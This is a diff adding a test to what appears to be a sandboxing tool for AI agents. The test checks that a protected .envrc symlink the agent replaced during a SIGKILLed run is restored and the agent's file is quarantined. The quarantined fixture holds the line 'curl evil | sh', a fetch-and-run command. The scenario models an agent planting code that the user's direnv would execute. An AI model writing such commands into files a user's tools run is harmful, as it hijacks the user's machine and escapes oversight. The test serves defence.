@@ -5,11 +5,11 @@
 // place (lib/paths/protected-links.ts), on both backends. Control: the same
 // commands outside leave the agent's file where your shell's direnv reads it.
 import assert from 'node:assert/strict';
-import { spawnSync } from 'node:child_process';
+import { spawn, spawnSync } from 'node:child_process';
 import { lstatSync, mkdirSync, readFileSync, readlinkSync, rmSync, symlinkSync } from 'node:fs';
 import { join } from 'node:path';
 import { after, describe, test } from 'node:test';
-import { cli, needs, tempHome, writeFile } from '../helpers.js';
+import { BIN, cli, needs, tempHome, writeFile } from '../helpers.js';
 
 describe('deny_write links: put back at the end of the run, what stood there moved aside (real bwrap and Docker)', needs('native', 'docker'), () => {
   const t = tempHome();
@@ -45,6 +45,24 @@ describe('deny_write links: put back at the end of the run, what stood there mov
       assert.match(removed.stderr, /^warning: the agent removed .*\.envrc, a symbolic link to envdir\/real that deny_write protects: the link is back$/m);
     });
   }
+
+  test("(review, round 33) native: a link the agent replaced in a run killed with SIGKILL is put back by the next run, and what it left moved aside; control: without a later run it stays the agent's", { timeout: 120_000 }, async () => {
+    const proj = fresh('proj-killed');
+    const child = spawn(process.execPath, [BIN, 'agent', 'run', '--silent', '--profile', 'pl', '--', 'sh', '-c', `${replace} && echo swapped && sleep 60`], { env: t.env, cwd: proj, stdio: ['ignore', 'pipe', 'pipe'] });
+    let out = '';
+    child.stdout.on('data', (d: Buffer) => (out += String(d)));
+    for (let i = 0; i < 600 && !out.includes('swapped'); i++) await new Promise((res) => setTimeout(res, 100));
+    assert.equal(out, 'swapped\n');
+    child.kill('SIGKILL');
+    await new Promise((res) => child.on('close', res));
+    // The control: the kill left the agent's file where your direnv reads it.
+    assert.equal(lstatSync(join(proj, '.envrc')).isSymbolicLink(), false);
+    const r = await cli(['agent', 'run', '--silent', '--', 'true'], { env: t.env, cwd: proj, timeoutMs: 90_000 });
+    assert.equal(r.code, 0, r.stderr);
+    assert.equal(readlinkSync(join(proj, '.envrc')), 'envdir/real');
+    assert.equal(readFileSync(join(proj, '.envrc.stashbase-quarantine'), 'utf8'), 'curl evil | sh\n');
+    assert.match(r.stderr, /the agent made .*\.envrc, which your own tools would run or obey .* \(left by the killed run ags_[a-z2-7]{16}\)\n.*the agent removed .*\.envrc, a symbolic link to envdir\/real that deny_write protects: the link is back \(left by the killed run ags_[a-z2-7]{16}\)\n/);
+  });
 
   test('control: the same replacement outside stashbase stays', () => {
     const proj = fresh('proj-outside');
